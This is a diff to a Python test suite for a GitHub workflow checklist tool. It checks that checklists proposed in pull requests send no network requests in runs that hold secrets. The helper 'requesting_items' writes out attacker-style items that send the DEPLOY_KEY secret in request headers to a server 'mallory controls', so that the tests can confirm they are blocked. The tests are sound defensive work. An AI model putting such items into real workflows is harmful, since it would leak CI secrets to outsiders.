@@ -1,4 +1,4 @@
-"""A checklist that a pull request proposes asks nobody anything where we hold secrets its author may not have."""
+"""In a run that holds secrets, a checklist that a pull request proposes sends no request."""
 
 from __future__ import annotations
 
@@ -12,29 +12,29 @@ from tests.attacks.second_stage import ON_BASE, POLICY, Stage
 from tests.command import checklist
 from tests.fakes import events
 from tests.fakes.github import BASE, HEAD, GitHub
-from tests.fakes.servers import Server, answer, serving
+from tests.fakes.servers import Server, respond, serving
 from tests.on_github import Workflow
 
 SECRET = "hunter2-hunter2"  # noqa: S105 - a made-up one
-ELSEWHERE = ("workflow_run", "issue_comment", "pull_request_target")
-"""Events whose run holds secrets, whoever opened the pull request."""
+PRIVILEGED_EVENTS = ("workflow_run", "issue_comment", "pull_request_target")
+"""Events whose run holds secrets even for a pull request from a fork."""
 
 
 @pytest.fixture
 def listener() -> Iterator[Server]:
-    """A server that mallory listens on."""
-    with serving(answer(body=b'{"ok": true}')) as server:
+    """A server that mallory controls."""
+    with serving(respond(body=b'{"ok": true}')) as server:
         yield server
 
 
-def spying(server: Server) -> dict[str, str]:
-    """Items that ask, by name."""
-    asks = f"{{urls: '{server.url()}', headers: {{Authorization: {{env: DEPLOY_KEY}}}}}}"
+def requesting_items(server: Server) -> dict[str, str]:
+    """Items that send requests, by the kind of the request."""
+    request = f"{{urls: '{server.url()}', headers: {{Authorization: {{env: DEPLOY_KEY}}}}}}"
     metrics = (
         f"{{urls: '{server.url()}', facts: {{ok: {{path: ok, kind: word}}}}, headers: {{X: {{env: DEPLOY_KEY}}}}}}"
     )
     return {
-        "http": f"spy | http | {asks} | status == 200",
+        "http": f"spy | http | {request} | status == 200",
         "metrics": f"spy | metrics | {metrics} | ok == true",
         "tcp": f"spy | tcp | {{targets: '127.0.0.1:{server.port}'}} | accepts",
         "issues": "spy | issues | {} | open == 0",
@@ -56,55 +56,67 @@ def run(stage: Stage, event: str, base: str | None, head: str) -> tuple[int, str
     return result.code, stage.comment()
 
 
-def asked_github(client: GitHub) -> list[str]:
-    """What only the proposed items would ask."""
-    return [line for line in client.log if any(word in line for word in ("/issues?", "/reviews", "/dependabot"))]
+def requests_of_items(client: GitHub) -> list[str]:
+    """The requests to GitHub that only the proposed items need."""
+    return [line for line in client.log if any(part in line for part in ("/issues?", "/reviews", "/dependabot"))]
 
 
-@pytest.mark.parametrize("event", ELSEWHERE)
+@pytest.mark.parametrize("event", PRIVILEGED_EVENTS)
 @pytest.mark.parametrize("kind", KINDS)
 @pytest.mark.parametrize("base", [ON_BASE, None], ids=["a changed checklist", "a first checklist"])
-def test_what_a_stranger_proposes_asks_nobody(
+def test_a_proposed_checklist_sends_no_request(
     stage: Stage, listener: Server, event: str, kind: str, base: str | None
 ) -> None:
-    _, said = run(stage, event, base, checklist(spying(listener)[kind]))
+    _, comment = run(stage, event, base, checklist(requesting_items(listener)[kind]))
 
     assert listener.requests == []
-    assert asked_github(stage.client) == []
-    assert "spy" in said
+    assert requests_of_items(stage.client) == []
+    assert "spy" in comment
 
 
-def test_once_merged_it_asks(stage: Stage, listener: Server) -> None:
-    code, _ = run(stage, "workflow_run", checklist(spying(listener)["http"]), checklist(spying(listener)["http"]))
+def test_a_merged_checklist_sends_requests(stage: Stage, listener: Server) -> None:
+    code, _ = run(
+        stage,
+        "workflow_run",
+        checklist(requesting_items(listener)["http"]),
+        checklist(requesting_items(listener)["http"]),
+    )
 
     assert code == 0
     assert [SECRET in request for request in listener.requests] == [True]
 
 
-def test_an_item_that_the_base_asks_for_is_not_asked_with_another_address(stage: Stage, listener: Server) -> None:
-    with serving(answer(body=b"{}")) as ours:
-        _, said = run(stage, "workflow_run", checklist(spying(ours)["http"]), checklist(spying(listener)["http"]))
+def test_a_proposed_item_with_another_address_sends_no_request(stage: Stage, listener: Server) -> None:
+    with serving(respond(body=b"{}")) as ours:
+        _, comment = run(
+            stage,
+            "workflow_run",
+            checklist(requesting_items(ours)["http"]),
+            checklist(requesting_items(listener)["http"]),
+        )
 
         assert len(ours.requests) == 1
     assert listener.requests == []
-    assert "spy: pass → unknown" in said
+    assert "spy: pass → unknown" in comment
 
 
-def test_an_address_with_a_mark_of_the_secret_shows_it_nowhere(stage: Stage) -> None:
-    echo = f'{{"said": "{SECRET}"}}'.encode()
-    with serving(answer(body=echo)) as server:
-        asks = f"{{urls: '{server.url()}', headers: {{X: {{env: DEPLOY_KEY}}}}, facts: {{said: said}}}}"
-        policy = checklist(f"spy | http | {asks} | said == fine")
-        code, said = run(stage, "workflow_run", policy, policy)
+def test_a_secret_in_a_response_is_shown_nowhere(stage: Stage) -> None:
+    echo = f'{{"echo": "{SECRET}"}}'.encode()
+    with serving(respond(body=echo)) as server:
+        parameters = f"{{urls: '{server.url()}', headers: {{X: {{env: DEPLOY_KEY}}}}, facts: {{echo: echo}}}}"
+        policy = checklist(f"spy | http | {parameters} | echo == fine")
+        code, comment = run(stage, "workflow_run", policy, policy)
 
     assert code == 1
-    assert SECRET not in said
-    assert "said is" in said.replace("`", "")
+    assert SECRET not in comment
+    assert "echo is" in comment.replace("`", "")
 
 
-def test_the_own_pull_request_is_previewed_with_what_it_asks(tmp_path: Path, client: GitHub, listener: Server) -> None:
+def test_a_pull_request_from_the_repository_is_previewed_with_its_requests(
+    tmp_path: Path, client: GitHub, listener: Server
+) -> None:
     workflow = Workflow(tmp_path, client)
-    workflow.pull_request({POLICY: ON_BASE}, {POLICY: checklist(spying(listener)["http"]), "a.py": "1"})
+    workflow.pull_request({POLICY: ON_BASE}, {POLICY: checklist(requesting_items(listener)["http"]), "a.py": "1"})
     workflow.more = {"DEPLOY_KEY": SECRET}
 
     workflow.run("pull_request", {"allow_private": "true"}, events.pull_request(7, client=client))
@@ -112,7 +124,7 @@ def test_the_own_pull_request_is_previewed_with_what_it_asks(tmp_path: Path, cli
     assert len(listener.requests) == 1
 
 
-def test_the_saved_result_of_a_stranger_asks_nobody(stage: Stage, saved: Any, listener: Server) -> None:
+def test_parameters_in_an_artifact_send_no_request(stage: Stage, saved: Any, listener: Server) -> None:
     for item in saved["items"]:
         item["with"] = {"urls": [listener.url()]}
 
